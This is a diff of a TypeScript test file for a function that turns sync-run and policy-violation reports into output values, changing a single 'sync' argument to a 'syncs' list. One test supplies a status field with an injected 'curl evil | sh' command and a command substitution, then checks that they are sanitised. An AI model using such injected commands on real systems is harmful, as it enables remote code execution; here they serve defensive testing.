@@ -25,7 +25,7 @@ describe('outputsOf', () => {
     // Of the 3 critical resources, a is in the baseline, c is suppressed: 1 new counts.
     policies.policies[0].resources = ['s3_a', 's3_b', 's3_c'].map((id) => resource(id))
     const report = runReport({
-      sync: completedSync(),
+      syncs: [completedSync()],
       policies,
       resources: resourceSettings({
         baseline: baselineFile({ [policies.policies[0].id]: ['s3_a'] }),
@@ -67,7 +67,7 @@ describe('outputsOf', () => {
   })
 
   it('wait: false: the run is known, its duration is not', () => {
-    const outputs = outputsOf(runReport({ sync: notAwaitedSync() }), redact)
+    const outputs = outputsOf(runReport({ syncs: [notAwaitedSync()] }), redact)
     expect(outputs['sync-run-status']).toBe('created')
     expect(outputs['sync-duration-seconds']).toBe('')
     expect(outputs.violations).toBe('')
@@ -86,14 +86,14 @@ describe('outputsOf', () => {
     const sync = syncOutcome({
       run: syncRun({ status: 'done"; curl evil | sh; "', status_reason: `$(${API_KEY})\nx` })
     })
-    const outputs = outputsOf(runReport({ sync }), redact)
+    const outputs = outputsOf(runReport({ syncs: sync ? [sync] : [] }), redact)
     expect(outputs['sync-run-status']).toBe('done___curl_evil___sh___')
     expect(outputs['sync-run-status-reason']).toBe('_______x')
   })
 
   it('leaves out counts that are not numbers', () => {
     const sync = syncOutcome({ run: syncRun({ total_rows: null, errors: Number.NaN }) })
-    const outputs = outputsOf(runReport({ sync }), redact)
+    const outputs = outputsOf(runReport({ syncs: sync ? [sync] : [] }), redact)
     expect(outputs['sync-total-rows']).toBe('')
     expect(outputs['sync-errors']).toBe('')
   })
